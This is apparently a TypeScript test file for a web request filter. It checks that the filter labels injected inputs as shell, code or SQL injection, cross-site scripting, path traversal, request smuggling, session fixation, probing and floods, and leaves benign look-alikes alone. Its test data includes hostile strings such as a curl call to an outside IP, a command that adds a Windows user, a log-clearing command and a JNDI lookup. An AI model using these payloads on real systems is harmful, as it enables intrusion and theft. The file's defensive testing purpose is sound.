import { describe, expect, it } from 'vitest';
import { airWall, createAirState } from '../../../../src/main/domain/walls/air/air-wall.ts';
import type { RequestSignal } from '../../../../src/main/domain/walls/signal.ts';
import { get, look, post, typesOf } from './support/air.ts';

const asks = (text: string): RequestSignal => get(`/list?q=${encodeURIComponent(text)}`);
const form = (...parts: string[]): RequestSignal =>
  post(`${parts.map((part) => `--b\r\n${part}\r\n`).join('')}--b--\r\n`, 'multipart/form-data; boundary=b');
const field = (name: string, kind = '', text = 'x'): string => `Content-Disposition: form-data; ${name}${kind}\r\n\r\n${text}`;
const from = (uri: string, referer: string): RequestSignal => get(uri, { headers: { host: 'room', referer } });

describe('W1 what other people write attacks with', () => {
  it.each([
    // Programs, whoever carries them and whatever their version.
    ['shell_injection', '10.1.1.1;python3.12 -m http.server'],
    ['shell_injection', 'x;irb<<<7'],
    ['shell_injection', 'time sh -c id'],
    ['shell_injection', 'x; sh$q -c id'],
    ['shell_injection', '|$q curl 198.51.100.4'],
    ['shell_injection', 'cd /;cd srv;fold keys'],
    ['shell_injection', ';unheardof --version'],
    ['shell_injection', 'ansible-vault view keys'],
    ['shell_injection', 'ansible web -m shell'],
    ['shell_injection', 'a&wevtutil cl system'],
    ['shell_injection', 'strace ifconfig'],
    ['shell_injection', 'x\\n/sbin/fdisk'],
    ['shell_injection', 'net user mallory x /add'],
    ['shell_injection', '{who,}'],
    ['shell_injection', 'c{a,el}t'],
    ['shell_injection', '\r\nRCPT TO: all@example.com\r\n'],
    ['shell_injection', '\r\nA1 CAPABILITY\r\n'],
    // PHP by other names.
    ['code_injection', '$  {CONSTANT_OF_MINE}'],
    ['code_injection', 'mygzinflate ($x)'],
    ['code_injection', "(sy.(st).em)('id')"],
    ['code_injection', '[exec][0](id)'],
    ['code_injection', 'mbstring.language=neutral'],
    ['code_injection', 'extension=evil.so'],
    ['code_injection', 'data://text/plain;base64,PD9waHAgZWNobyA3Ow=='],
    ['code_injection', '*(|(mail=*))'],
    ['code_injection', '{{ 7 * 7 }}'],
    ['code_injection', '{{ config }}'],
    ['code_injection', '$&lbrace;jndi:ldap://198.51.100.4/a}'],
    ['code_injection', 'data:text/plain,x'],
    // Statements.
    ['sql_injection', '7unionselect secret from vault'],
    ['sql_injection', '7) like ('],
    ['sql_injection', 'if(7='],
    ['sql_injection', 'secret::bigint'],
    ['sql_injection', 'lo_export(7)'],
    ['sql_injection', '7 AS "owner" from'],
    ['sql_injection', `OR '{"a":7}' ? 'a'`],
    ['sql_injection', 'db.vault.find({})'],
    ['sql_injection', 'JyBPUiAxPTEgLS0gJyBPUiAxPTEg'],
    // Pages.
    ['cross_site_scripting', '(![]+[])[+[]]'],
    ['cross_site_scripting', 'import { a } from "//198.51.100.4/a.js"'],
    ['cross_site_scripting', '(alert)(7)'],
    ['cross_site_scripting', 'alert?.(7)'],
    ['cross_site_scripting', '-moz-binding: url(//198.51.100.4)'],
    // Places.
    ['path_traversal', 'etc\\shadow'],
    ['path_traversal', '..;a/..;b'],
    ['path_traversal', '\\\\198.51.100.4\\c$\\users'],
    ['server_side_request', 'x.abc.oastify.com'],
    ['request_smuggling', 'a\r\nRemote-Addr: 10.0.0.1'],
  ])('W1 %s: %s', (type, text) => {
    expect(typesOf(asks(text)), text).toEqual([type]);
  });

  it('W1 a name in a form with files that two readers read differently, and alphabets that hide what is said', () => {
    for (const part of [
      field('name="a;b"'),
      field('name="a"; filename="x=.txt"'),
      field('name="a"; filename="x\\y.txt"'),
      field('name="a"', '\r\nContent-Type: text/plain; charset=utf-7'),
      field('name="_charset_"', '', 'utf-7'),
      `Content-\x0eDisposition: form-data; name="a"\r\n\r\nx`,
    ])
      expect(typesOf(form(part)), part).toEqual(['malformed_request']);
    expect(typesOf(form(field('name="../../etc/keys"')))).toEqual(['path_traversal']);
    for (const part of [
      field('name="a"; filename="O\'Brien & sons (1).pdf"'),
      field('name="a&auml;b"; filename="&#3607;.txt"'),
      field('name="a"', '\r\nContent-Type: text/plain; charset=UTF-8', 'งานของฉัน'),
      field('name="_charset_"', '', 'utf-8'),
    ])
      expect(typesOf(form(part)), part).toEqual([]);
  });

  it('W1 headers inside of headers, programs that are uploaded, documents that read elsewhere, bytes spelt with no figures', () => {
    expect(typesOf(get('/', { headers: { host: 'room', 'x-note': 'a%0dSeven: b' } }))).toEqual(['request_smuggling']);
    expect(typesOf(get('/', { headers: { host: 'room', 'x-filename': 'a. phtml' } }))).toEqual(['code_injection']);
    expect(typesOf(get('/', { headers: { host: 'room', 'x-filename': 'a.php70..' } }))).toEqual(['code_injection']);
    expect(typesOf(get('/', { headers: { host: 'room', 'content-range': 'seven' } }))).toEqual(['malformed_request']);
    expect(typesOf(get('/', { headers: { host: 'room', 'content-range': 'bytes 0-9/20' } }))).toEqual([]);
    expect(typesOf(post('<!DOCTYPE a SYSTEM "//x/y"><a>b</a>', 'application/xml'))).toEqual(['code_injection']);
    expect(typesOf(post('{"$text":"x"}', 'application/json'))).toEqual(['sql_injection']);
    expect(typesOf(get('/a?b=%zq%xy'))).toEqual(['malformed_request']);
    expect(typesOf(get('/a?b=50%25%20off&c=100%'))).toEqual([]);
  });

  it('W1 what stands behind a long filling is looked at', () => {
    expect(typesOf(post(`a=${'A'.repeat(40_000)}&b=<script>x</script>`))).toEqual(['cross_site_scripting']);
    expect(typesOf(post(`a=${'A'.repeat(40_000)}`))).toEqual([]);
  });

  it('W1 a session of a framework that a page of another host chose, and not one of this host', () => {
    for (const name of [
      'laravel_session',
      'connect.sid',
      'next-auth.session-token',
      '__host-next-auth.session-token',
      'koa:sess',
      'sessionid',
    ])
      expect(typesOf(from(`/login?${name}=7`, 'https://elsewhere.example/')), name).toEqual(['session_fixation']);
    expect(typesOf(from('/login?laravel_session=7', 'http://room/start'))).toEqual([]);
    expect(typesOf(get('/login?laravel_session=7')), 'nobody sent it').toEqual([]);
    expect(typesOf(from('/plan?session=7&sid=8', 'https://elsewhere.example/')), 'a lesson, a seat').toEqual([]);
  });
});

describe('W1 what only looks like it', () => {
  it.each([
    'necklace 16" or 18"',
    'a chain of 18" and is made of brass',
    '"LIKE" stamps, "MOD" "KITCHEN"',
    '3rd space(s), User(name), database (SQL), system (operating)',
    'sleep (8 hours) and confirm (yes/no)',
    'Q&A; more',
    'python 3.12 tutorial',
    'We write scripts for PowerShell Core and others',
    'see <a href="page.html">this page</a> or <a href="/help">that</a>',
    'JavaScript: the good parts of a language',
    'Dear {{name}}, your code is #{code}',
    'url=/maps/api/json?address=Main',
    'The value of the field `name` is set by the program that runs the `id` of each entry, not by you.',
    'x;charset=utf-8;q=0.9',
    'VGhhbmsgeW91IGZvciB0aGUgd29yay4=',
    'import (and perhaps export) of goods',
    'a session, b:session and sid=7',
    'first; second; third -- and so on',
  ])('W1 nothing is said of: %s', (text) => {
    expect(look(asks(text)).map(({ reasons }) => reasons)).toEqual([]);
    expect(look(post(JSON.stringify({ text }), 'application/json')).map(({ reasons }) => reasons)).toEqual([]);
  });

  it('W1 two-byte letters in an old alphabet are no hidden element', () => {
    expect(typesOf(asks('de\\xc3\\x83\\xc2\\xbcge > fu\\xc3\\x83\\xc2\\x9fe'))).toEqual([]);
  });
});

describe('W1 what a source does over several requests', () => {
  const found = (signals: readonly RequestSignal[]): string[] => {
    const state = createAirState();
    return signals.flatMap((signal) => airWall(signal, state).map(({ type }) => type));
  };
  const every = (
    count: number,
    gapMs: number,
    make: (time: number) => Partial<RequestSignal> & { uri: string },
  ): RequestSignal[] => Array.from({ length: count }, (_, time) => get('/', { at: 1_000 + time * gapMs, ...make(time) }));

  it('W1 one way into a program that is known to be broken is enough where it is missing, and none where it is answered', () => {
    expect(found([get('/_ignition/execute-solution', { status: 404 })])).toEqual(['probing']);
    expect(found([get('/solr/admin/info/system', { status: 403 })])).toEqual(['probing']);
    expect(found([get('/solr/admin/info/system', { status: 200 })])).toEqual([]);
    expect(found([get('/shop/setup.cginame', { status: 404 })])).toEqual([]);
  });

  it('W1 three doors of other programs, not two; a door an intruder left, at once', () => {
    const doors = ['/phpmyadmin2017/', '/blog/wp-admin/x.php', '/manager/html'];
    const asked = doors.map((uri, time) => get(uri, { at: 1_000 + time * 1_000, status: 404 }));
    expect(found(asked)).toEqual(['probing']);
    expect(found(asked.slice(0, 2))).toEqual([]);
    expect(typesOf(get('/files/old_shell.php', { status: 404 }))).toEqual(['sensitive_file']);
    expect(typesOf(get('/seashells.php', { status: 404 }))).toEqual([]);
  });

  it('W1 floods: past a cache, in spite of a limit, faster than anybody reads', () => {
    expect(found(every(40, 10, (time) => ({ uri: `/?${10_000_000 + time}` })))).toContain('request_flood');
    expect(found(every(40, 2_000, (time) => ({ uri: `/?${10_000_000 + time}` })))).toEqual([]);
    const told = { uri: '/', status: 429, headers: { host: 'room' } };
    expect(found(every(6, 500, () => told))).toEqual(['request_flood']);
    expect(found(every(5, 500, () => told))).toEqual([]);
    expect(found(every(30, 500, () => ({ uri: '/', status: 429 }))), 'a hall this room slows down').toEqual([]);
    expect(found(every(30, 500, () => ({ uri: '/api/v1/exams', status: 429 }))), 'the room’s own limits are its own').toEqual([]);
    expect(found(every(60, 50, (time) => ({ uri: `/page/${time}` })))).toEqual(['request_flood']);
    expect(found(every(60, 50, (time) => ({ uri: `/assets/${time}.js` }))), 'a page and its pieces').toEqual([]);
    expect(found(every(60, 50, (time) => ({ uri: `/api/v1/attempts/${time}` }))), 'a console').toEqual([]);
    expect(found(every(60, 50, () => ({ uri: '/' }))), 'a hall that comes in').toEqual([]);
  });
});
